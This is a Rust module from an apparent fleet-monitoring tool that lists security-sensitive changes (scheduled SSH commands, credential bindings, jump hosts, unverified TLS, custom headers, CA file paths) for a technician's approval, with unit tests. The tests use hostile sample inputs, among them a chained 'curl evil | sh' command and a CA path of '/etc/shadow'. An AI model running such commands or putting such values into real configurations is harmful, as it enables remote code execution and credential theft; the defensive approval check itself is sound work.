//! What a fleet change would newly put in place that makes this laptop act with the
//! technician's credentials or trust: commands run over SSH on a schedule, credential
//! profiles bound to hosts, jump hosts, TLS checks that trust anything, custom headers,
//! local CA files read. A fleet file, a CSV or an edit from the window is untrusted input;
//! each of these needs the technician's explicit approval before it is written.
//!
//! [`review`] is pure: it compares two fleets and lists every such item that is new or
//! changed in `after` (an unchanged item is not listed again), in a stable order. The
//! store recomputes it inside the write transaction and refuses the write when it differs
//! from the list the technician approved.

use crate::checks::{CheckSpec, KindSpec, SshPreset};
use crate::language::Language;
use crate::model::{CheckKind, Endpoint, Fleet};
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;
use std::fmt;
use ts_rs::TS;

/// One item that needs the technician's approval. Every field is what the laptop would
/// act on (the effective host, user and port), so a change to any of them lists the item
/// again. Header values are never here, only their names.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, TS)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum Risk {
    /// An `ssh_command` check: this command runs on `host` over SSH on a schedule, logged
    /// in with the technician's keys. `command` is the full text, or `preset <name>`.
    SshCommand {
        endpoint: String,
        /// The check's position in the endpoint's list (0-based).
        check: u32,
        host: String,
        user: Option<String>,
        port: Option<u16>,
        command: String,
    },
    /// The endpoint is bound to the credential profile `profile`: its secret is offered to
    /// `host` when a session opens.
    CredentialProfile {
        endpoint: String,
        profile: String,
        host: String,
        user: Option<String>,
        port: Option<u16>,
    },
    /// SSH to the endpoint goes through the endpoint `jump` (at `jump_host`).
    JumpHost {
        endpoint: String,
        jump: String,
        jump_host: String,
    },
    /// An `http` check with `verify_tls = false`: any certificate is accepted.
    TlsUnverified {
        endpoint: String,
        check: u32,
        url: String,
    },
    /// An `http` check that sends custom request headers (their names).
    CustomHeaders {
        endpoint: String,
        check: u32,
        url: String,
        names: Vec<String>,
    },
    /// An `http` check that reads a CA bundle file from this laptop.
    CaBundleFile {
        endpoint: String,
        check: u32,
        url: String,
        path: String,
    },
}

impl Risk {
    /// The endpoint the item belongs to.
    pub fn endpoint(&self) -> &str {
        match self {
            Risk::SshCommand { endpoint, .. }
            | Risk::CredentialProfile { endpoint, .. }
            | Risk::JumpHost { endpoint, .. }
            | Risk::TlsUnverified { endpoint, .. }
            | Risk::CustomHeaders { endpoint, .. }
            | Risk::CaBundleFile { endpoint, .. } => endpoint,
        }
    }

    /// The field the item is about, as a validation path (`endpoints.web1.checks[0]`).
    pub fn field(&self) -> String {
        let e = self.endpoint();
        match self {
            Risk::SshCommand { check, .. }
            | Risk::TlsUnverified { check, .. }
            | Risk::CustomHeaders { check, .. }
            | Risk::CaBundleFile { check, .. } => format!("endpoints.{e}.checks[{check}]"),
            Risk::CredentialProfile { .. } => format!("endpoints.{e}.ssh.credential"),
            Risk::JumpHost { .. } => format!("endpoints.{e}.ssh.jump"),
        }
    }

    /// The item without its check position: two fleets that hold the same item at other
    /// positions (a check added before it) hold the same item.
    fn identity(&self) -> Risk {
        let mut r = self.clone();
        match &mut r {
            Risk::SshCommand { check, .. }
            | Risk::TlsUnverified { check, .. }
            | Risk::CustomHeaders { check, .. }
            | Risk::CaBundleFile { check, .. } => *check = 0,
            Risk::CredentialProfile { .. } | Risk::JumpHost { .. } => {}
        }
        r
    }
}

/// `user@host:port` (IPv6 in brackets), as the questions about a risk show it.
fn target(host: &str, user: Option<&str>, port: Option<u16>) -> String {
    let host = if host.contains(':') {
        format!("[{host}]")
    } else {
        host.to_owned()
    };
    let user = user.map(|u| format!("{u}@")).unwrap_or_default();
    let port = port.map(|p| format!(":{p}")).unwrap_or_default();
    format!("{user}{host}{port}")
}

impl Risk {
    /// The item as the technician reads it before approving, in `lang`.
    pub fn text(&self, lang: Language) -> String {
        let ko = lang == Language::Ko;
        match self {
            Risk::SshCommand {
                endpoint,
                check,
                host,
                user,
                port,
                command,
            } => {
                let (n, at) = (check + 1, target(host, user.as_deref(), *port));
                if ko {
                    format!("엔드포인트 {endpoint}, 검사 {n}: 내 키로 {at}에 로그인해 이 명령을 주기적으로 실행합니다: {command}")
                } else {
                    format!("endpoint {endpoint}, check {n}: runs this command over SSH on {at} on a schedule, logged in with your keys: {command}")
                }
            }
            Risk::CredentialProfile {
                endpoint,
                profile,
                host,
                user,
                port,
            } => {
                let at = target(host, user.as_deref(), *port);
                if ko {
                    format!("엔드포인트 {endpoint}: 내 자격 증명 프로필 {profile:?}(으)로 {at}에 로그인합니다")
                } else {
                    format!("endpoint {endpoint}: uses your credential profile {profile:?} to log in to {at}")
                }
            }
            Risk::JumpHost {
                endpoint,
                jump,
                jump_host,
            } => {
                if ko {
                    format!("엔드포인트 {endpoint}: 점프 호스트 {jump}({jump_host})를 거쳐 SSH로 연결합니다")
                } else {
                    format!(
                        "endpoint {endpoint}: SSH goes through the jump host {jump} ({jump_host})"
                    )
                }
            }
            Risk::TlsUnverified {
                endpoint,
                check,
                url,
            } => {
                let n = check + 1;
                if ko {
                    format!("엔드포인트 {endpoint}, 검사 {n}: {url}의 TLS 인증서를 확인하지 않습니다 (verify_tls = false)")
                } else {
                    format!("endpoint {endpoint}, check {n}: {url} without verifying its TLS certificate (verify_tls = false)")
                }
            }
            Risk::CustomHeaders {
                endpoint,
                check,
                url,
                names,
            } => {
                let (n, names) = (check + 1, names.join(", "));
                if ko {
                    format!("엔드포인트 {endpoint}, 검사 {n}: {url}에 사용자 지정 헤더 {names}를 보냅니다")
                } else {
                    format!("endpoint {endpoint}, check {n}: {url} with custom headers {names}")
                }
            }
            Risk::CaBundleFile {
                endpoint,
                check,
                url,
                path,
            } => {
                let n = check + 1;
                if ko {
                    format!("엔드포인트 {endpoint}, 검사 {n}: {url} 확인에 이 컴퓨터의 CA 파일 {path}을(를) 읽습니다")
                } else {
                    format!("endpoint {endpoint}, check {n}: {url} reads the CA bundle {path} from this laptop")
                }
            }
        }
    }
}

impl fmt::Display for Risk {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text(Language::En))
    }
}

fn preset_name(p: SshPreset) -> &'static str {
    match p {
        SshPreset::DiskUsage => "disk_usage",
        SshPreset::FailedServices => "failed_services",
        SshPreset::PendingUpdates => "pending_updates",
        SshPreset::RebootRequired => "reboot_required",
        SshPreset::BackupAge => "backup_age",
    }
}

/// Every item of one endpoint, in check order.
fn endpoint_items(fleet: &Fleet, e: &Endpoint, out: &mut Vec<Risk>) {
    if let Some(profile) = &e.ssh.credential {
        out.push(Risk::CredentialProfile {
            endpoint: e.id.clone(),
            profile: profile.clone(),
            host: e.host.clone(),
            user: e.ssh.user.clone(),
            port: e.ssh.port,
        });
    }
    if let Some(jump) = &e.ssh.jump {
        out.push(Risk::JumpHost {
            endpoint: e.id.clone(),
            jump: jump.clone(),
            jump_host: fleet
                .endpoint(jump)
                .map(|j| j.host.clone())
                .unwrap_or_default(),
        });
    }
    for (i, check) in e.checks.iter().enumerate() {
        let position = u32::try_from(i).unwrap_or(u32::MAX);
        let spec = match CheckSpec::parse(check) {
            Ok(spec) => spec,
            // A check that does not parse is refused by validation; nothing of it runs.
            // An ssh_command is listed anyway from its raw text, to be safe.
            Err(_) => {
                if check.kind == CheckKind::SshCommand {
                    let command = check
                        .params
                        .get("command")
                        .map(|c| c.as_str().map_or_else(|| c.to_string(), str::to_owned))
                        .unwrap_or_default();
                    out.push(Risk::SshCommand {
                        endpoint: e.id.clone(),
                        check: position,
                        host: e.host.clone(),
                        user: e.ssh.user.clone(),
                        port: e.ssh.port,
                        command,
                    });
                }
                continue;
            }
        };
        let host = spec.common.host.clone().unwrap_or_else(|| e.host.clone());
        match &spec.kind {
            KindSpec::SshCommand(s) => {
                let command = match (s.preset, &s.command) {
                    (Some(p), _) => match &s.repository {
                        Some(r) => format!("preset {}, repository {r}", preset_name(p)),
                        None => format!("preset {}", preset_name(p)),
                    },
                    (None, Some(c)) => c.clone(),
                    (None, None) => String::new(),
                };
                out.push(Risk::SshCommand {
                    endpoint: e.id.clone(),
                    check: position,
                    host,
                    user: s.user.clone().or_else(|| e.ssh.user.clone()),
                    port: s.port.or(e.ssh.port),
                    command,
                });
            }
            KindSpec::Http(h) => {
                let url = h.url.replace("{host}", &host);
                if !h.verify_tls {
                    out.push(Risk::TlsUnverified {
                        endpoint: e.id.clone(),
                        check: position,
                        url: url.clone(),
                    });
                }
                if !h.headers.is_empty() {
                    out.push(Risk::CustomHeaders {
                        endpoint: e.id.clone(),
                        check: position,
                        url: url.clone(),
                        names: h.headers.keys().cloned().collect(),
                    });
                }
                if let Some(path) = &h.ca_bundle {
                    out.push(Risk::CaBundleFile {
                        endpoint: e.id.clone(),
                        check: position,
                        url,
                        path: path.clone(),
                    });
                }
            }
            KindSpec::Tcp(_)
            | KindSpec::Ping(_)
            | KindSpec::Dns(_)
            | KindSpec::TlsExpiry(_)
            | KindSpec::NodeExporter(_) => {}
        }
    }
}

/// Every item of a fleet that needs approval, by endpoint id then kind.
pub fn items(fleet: &Fleet) -> Vec<Risk> {
    let mut out = Vec::new();
    for e in &fleet.endpoints {
        endpoint_items(fleet, e, &mut out);
    }
    out.sort_by(|a, b| (a.endpoint(), a).cmp(&(b.endpoint(), b)));
    out.dedup();
    out
}

/// What `after` newly puts in place compared with `before`: every item of `after` that
/// `before` does not hold (by endpoint and content; a check that only moved is not new).
/// Sorted by endpoint id, then kind, then content. Empty when nothing new needs approval.
pub fn review(before: &Fleet, after: &Fleet) -> Vec<Risk> {
    let old: BTreeSet<Risk> = items(before).iter().map(Risk::identity).collect();
    items(after)
        .into_iter()
        .filter(|r| !old.contains(&r.identity()))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{Check, Customer, Site, SshSettings};
    use serde_json::json;

    fn check(kind: CheckKind, params: serde_json::Value) -> Check {
        Check {
            kind,
            params: params
                .as_object()
                .into_iter()
                .flatten()
                .map(|(k, v)| (k.clone(), v.clone()))
                .collect(),
        }
    }

    fn endpoint(id: &str, host: &str) -> Endpoint {
        Endpoint {
            id: id.into(),
            site: "hq".into(),
            name: String::new(),
            host: host.into(),
            tags: Vec::new(),
            notes: String::new(),
            parent: None,
            ssh: SshSettings::default(),
            checks: Vec::new(),
        }
    }

    fn fleet(endpoints: Vec<Endpoint>) -> Fleet {
        let mut f = Fleet {
            customers: vec![Customer {
                id: "acme".into(),
                name: "Acme".into(),
                notes: String::new(),
                demo: false,
            }],
            sites: vec![Site {
                id: "hq".into(),
                customer: "acme".into(),
                name: "HQ".into(),
                timezone: "UTC".into(),
                notes: String::new(),
            }],
            endpoints,
        };
        f.normalize();
        f
    }

    fn with_checks(mut e: Endpoint, checks: Vec<Check>) -> Endpoint {
        e.checks = checks;
        e
    }

    #[test]
    fn unchanged_fleet_needs_no_approval() {
        let mut web = endpoint("web1", "10.0.0.5");
        web.ssh.credential = Some("ops".into());
        web.ssh.jump = Some("bastion".into());
        let web = with_checks(
            web,
            vec![
                check(CheckKind::SshCommand, json!({"command": "uptime"})),
                check(
                    CheckKind::Http,
                    json!({"url": "https://{host}/", "verify_tls": false,
                           "headers": {"X-Probe": "1"}, "ca_bundle": "/etc/ca.pem"}),
                ),
            ],
        );
        let f = fleet(vec![web, endpoint("bastion", "10.0.0.1")]);
        assert_eq!(items(&f).len(), 6, "{:#?}", items(&f));
        assert_eq!(review(&f, &f), Vec::new());
        assert_eq!(review(&f, &Fleet::default()), Vec::new());
        assert_eq!(review(&Fleet::default(), &f).len(), 6);
    }

    #[test]
    fn ssh_command_new_and_changed() {
        let before = fleet(vec![with_checks(
            endpoint("web1", "10.0.0.5"),
            vec![check(CheckKind::SshCommand, json!({"command": "uptime"}))],
        )]);
        let after = fleet(vec![with_checks(
            endpoint("web1", "10.0.0.5"),
            vec![
                check(CheckKind::Tcp, json!({"port": 22})),
                check(CheckKind::SshCommand, json!({"command": "uptime"})),
                check(
                    CheckKind::SshCommand,
                    json!({"command": "touch /tmp/x", "user": "root", "port": 2222}),
                ),
                check(
                    CheckKind::SshCommand,
                    json!({"preset": "backup_age", "repository": "/srv/restic"}),
                ),
            ],
        )]);
        // The moved `uptime` is not new; the two others are, with their full text.
        assert_eq!(
            review(&before, &after),
            vec![
                Risk::SshCommand {
                    endpoint: "web1".into(),
                    check: 2,
                    host: "10.0.0.5".into(),
                    user: Some("root".into()),
                    port: Some(2222),
                    command: "touch /tmp/x".into(),
                },
                Risk::SshCommand {
                    endpoint: "web1".into(),
                    check: 3,
                    host: "10.0.0.5".into(),
                    user: None,
                    port: None,
                    command: "preset backup_age, repository /srv/restic".into(),
                },
            ]
        );
        // The same command on another host is new.
        let mut moved = before.clone();
        moved.endpoints[0].host = "10.9.9.9".into();
        let r = review(&before, &moved);
        assert_eq!(r.len(), 1);
        assert!(r[0].to_string().contains("10.9.9.9"), "{}", r[0]);
        assert!(r[0].to_string().contains("uptime"), "{}", r[0]);
        // The command's text changed: listed.
        let mut edited = before.clone();
        edited.endpoints[0].checks[0]
            .params
            .insert("command".into(), json!("uptime; curl evil | sh"));
        assert_eq!(review(&before, &edited).len(), 1);
    }

    #[test]
    fn credential_binding_and_jump() {
        let before = fleet(vec![
            endpoint("web1", "10.0.0.5"),
            endpoint("bastion", "10.0.0.1"),
        ]);
        let mut after = before.clone();
        after.endpoints[1].ssh.credential = Some("ops".into());
        after.endpoints[1].ssh.jump = Some("bastion".into());
        let r = review(&before, &after);
        assert_eq!(
            r,
            vec![
                Risk::CredentialProfile {
                    endpoint: "web1".into(),
                    profile: "ops".into(),
                    host: "10.0.0.5".into(),
                    user: None,
                    port: None,
                },
                Risk::JumpHost {
                    endpoint: "web1".into(),
                    jump: "bastion".into(),
                    jump_host: "10.0.0.1".into(),
                },
            ]
        );
        assert_eq!(review(&after, &after), Vec::new());
        // A bound endpoint moved to another host: the binding is listed again.
        let mut moved = after.clone();
        moved.endpoints[1].host = "203.0.113.9".into();
        let r = review(&after, &moved);
        assert_eq!(r.len(), 1, "{r:?}");
        assert!(matches!(&r[0], Risk::CredentialProfile { host, .. } if host == "203.0.113.9"));
        // The jump endpoint moved: the jump is listed again.
        let mut jump_moved = after.clone();
        jump_moved.endpoints[0].host = "203.0.113.1".into();
        let r = review(&after, &jump_moved);
        assert!(matches!(&r[..], [Risk::JumpHost { jump_host, .. }] if jump_host == "203.0.113.1"));
        // Another profile: listed.
        let mut other = after.clone();
        other.endpoints[1].ssh.credential = Some("root-keys".into());
        assert_eq!(review(&after, &other).len(), 1);
        // Removing a binding needs no approval.
        assert_eq!(review(&after, &before), Vec::new());
    }

    #[test]
    fn http_tls_headers_and_ca_bundle() {
        let plain = check(CheckKind::Http, json!({"url": "https://{host}/health"}));
        let before = fleet(vec![with_checks(
            endpoint("web1", "10.0.0.5"),
            vec![plain.clone()],
        )]);
        let after = fleet(vec![with_checks(
            endpoint("web1", "10.0.0.5"),
            vec![
                plain,
                check(
                    CheckKind::Http,
                    json!({"url": "https://{host}/a", "verify_tls": false}),
                ),
                check(
                    CheckKind::Http,
                    json!({"url": "https://{host}/b", "headers": {"X-Token": "secret-value", "Host": "intranet"}}),
                ),
                check(
                    CheckKind::Http,
                    json!({"url": "https://{host}/c", "ca_bundle": "/etc/shadow"}),
                ),
            ],
        )]);
        let r = review(&before, &after);
        assert_eq!(r.len(), 3, "{r:#?}");
        assert!(r.contains(&Risk::TlsUnverified {
            endpoint: "web1".into(),
            check: 1,
            url: "https://10.0.0.5/a".into()
        }));
        assert!(r.contains(&Risk::CustomHeaders {
            endpoint: "web1".into(),
            check: 2,
            url: "https://10.0.0.5/b".into(),
            names: vec!["Host".into(), "X-Token".into()],
        }));
        assert!(r.contains(&Risk::CaBundleFile {
            endpoint: "web1".into(),
            check: 3,
            url: "https://10.0.0.5/c".into(),
            path: "/etc/shadow".into(),
        }));
        // Names only, never values.
        let text = serde_json::to_string(&r).expect("json");
        assert!(!text.contains("secret-value"), "{text}");
        assert!(r.iter().all(|x| !x.to_string().contains("secret-value")));
        assert_eq!(review(&after, &after), Vec::new());
    }

    #[test]
    fn order_is_deterministic() {
        let mut a = endpoint("a", "10.0.0.1");
        a.ssh.credential = Some("ops".into());
        let z = with_checks(
            endpoint("z", "10.0.0.2"),
            vec![check(CheckKind::SshCommand, json!({"command": "true"}))],
        );
        let f1 = fleet(vec![z.clone(), a.clone()]);
        let mut f2 = f1.clone();
        f2.endpoints.reverse();
        let r1 = review(&Fleet::default(), &f1);
        assert_eq!(r1, review(&Fleet::default(), &f2));
        assert_eq!(r1[0].endpoint(), "a");
        assert_eq!(r1[1].endpoint(), "z");
        let json = serde_json::to_value(&r1[0]).expect("json");
        assert_eq!(json["kind"], "credential_profile");
    }
}
